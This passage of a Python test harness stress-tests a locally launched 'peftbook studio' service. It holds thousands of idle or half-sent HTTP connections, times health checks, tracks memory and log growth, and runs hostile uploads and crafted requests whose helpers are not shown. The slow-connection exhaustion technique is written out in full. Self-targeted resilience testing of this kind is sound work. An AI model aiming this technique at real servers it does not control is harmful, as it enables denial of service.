# --- connections -----------------------------------------------------------------------------------------------


def hold(port: int, count: int) -> list[socket.socket]:
    """So many connections: a third says nothing, a third half a head, a third half a body."""
    begun = (
        b"",
        b"GET / HTTP/1.1\r\nHost: 127.0",
        b"POST /new HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 99\r\n\r\nx",
    )
    held = []
    for at in range(count):
        held.append(socket.create_connection(("127.0.0.1", port), timeout=5))
        with contextlib.suppress(ConnectionError):  # it was closed for a newer one
            held[-1].sendall(begun[at % 3])
    return held


def health_seconds(port: int) -> float:
    """How long the service takes to say that it lives, on a new connection."""
    began = time.monotonic()
    with socket.create_connection(("127.0.0.1", port), timeout=30) as one:
        one.sendall(b"GET /api/v1/health HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
        assert b"200 OK" in one.recv(1000)
    return time.monotonic() - began


def besiege(count: int, files: int = 1024) -> list[str]:
    """A studio with so many files, and so many connections that stay: what it took, and what was too much."""
    with tempfile.TemporaryDirectory() as folder, (Path(folder) / "log").open("w+b") as log:
        words = f"ulimit -n {files}; exec {sys.executable} -m peftbook studio --home {folder}/home --port 0 --no-worker"
        process = subprocess.Popen(["bash", "-c", words], stdout=log, stderr=log)
        try:
            while not (found := re.search(rb":(\d+)/", (Path(folder) / "log").read_bytes())):
                time.sleep(0.1)
            port, before = int(found[1]), psutil.Process(process.pid).memory_info().rss
            health_seconds(port)
            held = hold(port, count)
            seconds = []
            for _ in range(20):
                seconds.append(health_seconds(port))
                held += hold(port, 50)
            grown = psutil.Process(process.pid).memory_info().rss - before
            size = (Path(folder) / "log").stat().st_size
            for one in held:
                one.close()
        finally:
            process.terminate()
            process.wait()
    print(
        f"{len(held):,} connections: health in {max(seconds):.3f} s, log {size:,} bytes, memory +{grown / 1e6:.0f} MB"
    )
    return [f"besieged: {max(seconds):.1f} s, {size:,} bytes"] * (max(seconds) > 1 or size > 1e6 or grown > 300e6)


def attack(there: Served, count: int, each: int = 3) -> list[str]:
    """All of it, with so many generated requests and files of a class; the laws that were broken."""
    with watched(there):
        stale_tokens(there)
        formulas_and_markup(there)
        two_at_once(there)
        for request in [*attacks(there), *metrics(there)]:
            there.send(request)
        hostile_uploads(there, each)
        generated(there, count)
        assert there.ask("GET", "/health") == {"status": "ok"}
    return there.broken


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--requests", type=int, default=2000)
    logging.getLogger("python_multipart").setLevel(logging.ERROR)  # which says what it thinks of every form
    folder = Path(tempfile.mkdtemp(prefix="hostile-"))
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    broken = besiege(3000)
    began = time.monotonic()
    try:
        with serving(folder / "home") as there:
            broken += attack(there, parser.parse_args().requests)
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    print(f"{sum(there.counts.values())} requests in {time.monotonic() - began:.0f} s")
    for status, times in sorted(there.counts.items()):
        print(f"{status or 'closed':>8}  {times}")
    for fault, times in Counter(re.sub(r"[0-9a-f]{16}", "…", one) for one in broken).most_common():
        print(f"BROKEN {times:>4}  {fault}")
    return 1 if broken else 0


if __name__ == "__main__":
    raise SystemExit(main())
